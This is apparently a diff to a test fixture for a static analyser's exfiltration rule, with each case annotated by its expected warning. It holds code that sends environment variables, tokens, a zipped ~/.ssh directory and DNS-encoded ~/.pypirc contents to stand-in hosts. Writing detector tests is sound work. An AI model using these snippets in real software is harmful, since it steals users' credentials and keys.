@@ -6,6 +6,7 @@ import glob
 import http.client
 import json
 import os
+import shutil
 import smtplib
 import socket
 import subprocess
@@ -100,3 +101,30 @@ def lookup():
     secret = base64.b32encode(open(os.path.expanduser("~/.pypirc"), "rb").read()).decode()
     socket.gethostbyname(secret[:60] + ".d.example.invalid")
 #   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+
+
+def collect():
+    information = {"host": socket.gethostname()}
+    information.update(os.environ)
+    requests.post("https://collect.example.invalid/e", json=information)
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+
+
+def lines():
+    text = ""
+    for name, value in os.environ.items():
+        text += name + "=" + value + "\n"
+    requests.post("https://collect.example.invalid/e", data=text)
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+
+
+def tokens():
+    found = {name: value for name, value in os.environ.items() if "TOKEN" in name}
+    requests.post("https://collect.example.invalid/e", json=found)
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ exfiltration: warning
+
+
+def archive():
+    shutil.make_archive("/tmp/keys", "zip", os.path.expanduser("~/.ssh"))
+    requests.post("https://collect.example.invalid/k", files={"keys": open("/tmp/keys.zip", "rb")})
+#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ todo: exfiltration
